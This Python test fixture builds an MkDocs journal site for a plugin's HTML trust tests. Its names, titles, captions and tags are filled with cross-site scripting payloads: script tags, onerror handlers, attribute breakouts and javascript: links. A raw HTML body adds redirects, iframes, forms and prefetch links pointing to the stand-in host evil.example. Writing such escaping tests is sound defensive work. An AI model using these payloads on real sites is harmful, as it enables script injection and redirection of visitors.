"""A journal whose every field carries hostile values: markup, quotes, template syntax, URL
characters. Built into a site for the trust tests (tests/test_trust_html.py)."""

from __future__ import annotations

import json
from pathlib import Path

from memorybook.building import build
from tests.conftest import TESTS

EVIL_HOST = "evil.example"


def hostile(label: str) -> str:
    """A value that runs `alert(label)` or sets `window.pwned` if it is ever taken for markup,
    breaks out of an attribute, a script or an SVG, and reads as Markdown or a template."""
    return (
        f"{label} to <you> & <script>alert('{label}')</script>"
        f"<img src=x onerror=\"window.pwned='{label}'\"> "
        f"\" onmouseover=\"window.pwned='{label}' ' onfocus='alert(1)' "
        f"</svg></script></title><b>bold</b> {{{{ config.site_name }}}} {{% if x %}} "
        f"*star* _under_ `tick` [link](https://{EVIL_HOST}/) 100% #1? &amp; ok"
    )


SITE_NAME = hostile("Site")
SAM = hostile("Sam")
ALEX = hostile("Alex")
PLACE = hostile("Place")
TAG = hostile("Tag")
TAG_SHOWN = TAG.lower()
"""Tags are shown in lower case (the journal folds them)."""
CAPTION = hostile("Caption")
ALT = hostile("Alt")

ENTRY_FILES = {
    "quote": 'a "quoted" name',
    "hash": "hash#tag",
    "question": "what?really",
    "percent": "100%25 sure",
    "accent": "café au lait",
}
"""Entry files (2024/2024-03-0N-<name>.md) whose names a URL must encode; key: title label."""

RAW_BODY = f"""\
Words before the raw HTML.

<meta http-equiv="refresh" content="0;url=https://{EVIL_HOST}/refresh">
<base href="https://{EVIL_HOST}/base/">
<link rel="prefetch" href="https://{EVIL_HOST}/prefetch.js">
<link rel="dns-prefetch" href="https://dns.{EVIL_HOST}/">
<link rel="preconnect" href="https://connect.{EVIL_HOST}/">
<iframe src="https://{EVIL_HOST}/frame"></iframe>
<iframe srcdoc="<script>top.location='https://{EVIL_HOST}/srcdoc'</script>"></iframe>
<object data="https://{EVIL_HOST}/object.swf"></object>
<embed src="https://{EVIL_HOST}/embed.swf">
<form action="https://{EVIL_HOST}/form" method="post"><button id="send">Send</button></form>
<script>location.href = "https://{EVIL_HOST}/script";</script>
<img src="x" onerror="location.href='https://{EVIL_HOST}/onerror'">
<svg><a><animate attributeName="href" values="javascript:alert('svg')"/>
<text y="20">svg link</text></a></svg>
<svg><style><img src=x onerror="window.pwned='svg-style'"></style></svg>
<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>"></p></noscript>
<!-- a comment --!> <img src=x onerror="window.pwned='comment'"> -->
<!--mb:0--> <!--mb-00:0-->

<p><a id="ping" href="#top" ping="https://{EVIL_HOST}/ping">a link with a ping</a>
<a id="js" href="jav&#x61;script:window.pwned='href'">a script link</a></p>

[a Markdown script link](javascript:window.pwned='markdown')

Words after the raw HTML.
"""


def write_hostile_project(root: Path) -> Path:
    """The project (mkdocs.yml + journal/) in `root`; returns mkdocs.yml."""
    journal = root / "journal"
    (journal / "2024").mkdir(parents=True)
    q = json.dumps  # JSON strings are YAML strings, whatever they hold
    (root / "mkdocs.yml").write_text(
        f"site_name: {q(SITE_NAME)}\n"
        f"site_description: {q(hostile('Description'))}\n"
        "docs_dir: journal\n"
        "theme:\n  name: material\n  font: false\n"
        "plugins:\n  - search\n  - memorybook:\n      people:\n"
        f"        sam: {{name: {q(SAM)}, color: '#e76f51'}}\n"
        f"        alex: {{name: {q(ALEX)}, color: '#2a9d8f'}}\n"
        "      together_since: 2023-03-01\n",
        encoding="utf-8",
    )
    for day, (label, name) in enumerate(ENTRY_FILES.items(), start=1):
        photo = f'2024/2024-03-0{day}-{name}/photo "#?%.png'
        (journal / photo).parent.mkdir()
        (journal / photo).write_bytes((TESTS / "photos" / "coffee.png").read_bytes())
        front = {
            "title": hostile(label),
            "date": f"2024-03-0{day}",
            "authors": ["sam", "alex"],
            "place": PLACE,
            "tags": [TAG, "firsts"],
            "photos": [{"src": photo.rsplit("/", 1)[1], "caption": CAPTION, "alt": ALT}],
        }
        _write_entry(journal / f"2024/2024-03-0{day}-{name}.md", front, "Hello <you> & *all*.")
    kinds = {
        "gratitude": {"kind": "gratitude", "from": "sam", "to": "alex", "love_language": "time"},
        "milestone": {"kind": "milestone", "title": hostile("Milestone"), "recurring": True},
        "letter": {"kind": "letter", "from": "alex", "to": "sam"},
    }
    for day, (name, fields) in enumerate(kinds.items(), start=10):
        front = {"date": f"2024-03-{day}", "place": PLACE, "tags": [TAG], **fields}
        _write_entry(journal / f"2024/2024-03-{day}-{name}.md", front, "Thank you <3 & more.")
    raw = {"title": "Raw HTML", "date": "2024-04-01"}
    _write_entry(journal / "2024/2024-04-01-raw.md", raw, RAW_BODY)
    page = {"title": hostile("Page"), "description": hostile("Meta"), "mb_kind": hostile("Kind")}
    _write_entry(journal / "our story.md", page, "Our own page.")
    return root / "mkdocs.yml"


def _write_entry(path: Path, front: dict[str, object], body: str) -> None:
    lines = [f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in front.items()]
    path.write_text("---\n" + "\n".join(lines) + "\n---\n" + body + "\n", encoding="utf-8")


def build_hostile(root: Path) -> Path:
    """Build the hostile journal's site; returns the site folder."""
    config = write_hostile_project(root)
    build(config)
    return root / "site"
